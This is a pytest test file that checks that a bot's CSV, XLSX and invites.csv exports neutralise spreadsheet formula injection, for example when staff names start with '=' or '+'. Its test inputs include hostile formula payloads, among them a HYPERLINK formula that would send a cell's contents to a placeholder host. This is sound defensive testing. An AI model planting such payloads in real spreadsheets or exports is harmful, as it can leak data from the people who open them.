"""Exports a person opens in a spreadsheet never run a formula (CSV injection), invites.csv included."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from reports.spreadsheet import csv_safe, csv_text, xlsx_bytes
from tests.conftest import SAMPLE_ROSTER

INJECTIONS = ('=HYPERLINK("http://x"&A1,"click")', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1")


def test_formula_leading_text_is_quoted_in_csv_and_the_rest_is_kept() -> None:
    assert [csv_safe(v) for v in INJECTIONS] == ["'" + v for v in INJECTIONS]
    assert [csv_safe(v) for v in ("彭志", "a=b", "", 3, -2)] == ["彭志", "a=b", "", 3, -2]
    rows = list(csv.reader(io.StringIO(csv_text([["name"], *([v] for v in INJECTIONS)]), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + v for v in INJECTIONS]


def test_xlsx_text_is_a_string_cell_never_a_formula() -> None:
    data = xlsx_bytes([["name", "visits"], *([v, 1] for v in INJECTIONS)], sheet_title="Staff")
    sheet = load_workbook(io.BytesIO(data))["Staff"]
    cells = [sheet.cell(row=r, column=1) for r in range(2, len(INJECTIONS) + 2)]
    # A bare \r survives with lxml (written as &#13;); openpyxl's own XML writer turns it into \n.
    assert all(c.value in (v, v.replace("\r", "\n")) for c, v in zip(cells, INJECTIONS, strict=True))
    assert {c.data_type for c in cells} == {"s"}
    assert sheet.cell(row=2, column=2).value == 1


def test_names_that_look_like_formulas_are_neutralised_in_invites_csv(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    roster = tmp_path / "roster"
    shutil.copytree(SAMPLE_ROSTER, roster)
    with (roster / "staff.csv").open(encoding="utf-8-sig", newline="") as handle:
        staff = list(csv.reader(handle))
    name = staff[0].index("name")
    for row, hostile in zip(staff[1:], INJECTIONS, strict=False):
        row[name] = hostile
    with (roster / "staff.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(staff)
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'twovisits.db'}")
    assert main(["roster", "import", str(roster)]) == 0
    assert main(["invites", "--bot-username", "TwoVisitsBot", "--out", str(tmp_path / "invites.csv")]) == 0
    with (tmp_path / "invites.csv").open(encoding="utf-8-sig", newline="") as handle:
        names = {row["staff_id"]: row["name"] for row in csv.DictReader(handle)}
    imported_names = {row[staff[0].index("staff_id")]: row[name] for row in staff[1:]}
    hostile_rows = list(imported_names.items())[: len(INJECTIONS)]
    assert [h for _, h in hostile_rows] == list(INJECTIONS)
    for staff_id, hostile in hostile_rows:
        # The import may trim the name; whatever it kept is quoted, so no spreadsheet runs it.
        assert names[staff_id].startswith("'") and names[staff_id][1:].strip() == hostile.strip()
